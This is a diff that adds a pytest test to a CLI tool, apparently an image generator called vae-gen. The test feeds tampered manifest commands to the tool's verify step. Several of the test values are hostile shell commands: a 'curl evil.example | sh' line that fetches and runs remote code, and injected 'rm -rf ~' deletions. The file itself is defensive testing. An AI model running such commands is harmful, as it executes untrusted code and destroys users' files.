@@ -163,3 +163,28 @@ def test_no_manifest_makes_verify_or_sample_fall_over(what: tuple[object, ...], 
         path.write_bytes(content)
         assert main(["verify", "out"]) in (0, 1)
     capsys.readouterr()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh; vae-gen sample",
+        "vae-gen sample --n 5; rm -rf ~",
+        "vae-gen sample $(rm -rf ~)",
+        "vae-gen train --n 5",
+        "vae-gen",
+        "",
+        "vae-gen sample 'unbalanced",
+        "vae-gen sample --model 'a\x1b[2K\rb'",
+    ],
+)
+def test_a_command_that_no_run_writes_is_not_shown(command: str, capsys: Capture) -> None:
+    sample("--n", 5, "--out", "out")
+    manifest = json.loads(Path("out/manifest.json").read_text())
+    Path("out/manifest.json").write_text(json.dumps(manifest | {"command": command}))
+    Path("out/000000003.png").unlink()
+    capsys.readouterr()
+    assert main(["verify", "out"]) == 1
+    (line,) = capsys.readouterr().err.splitlines()
+    assert line.startswith("Error: out/manifest.json is no manifest of a run, or a damaged one: its command is ")
+    assert line.isprintable()
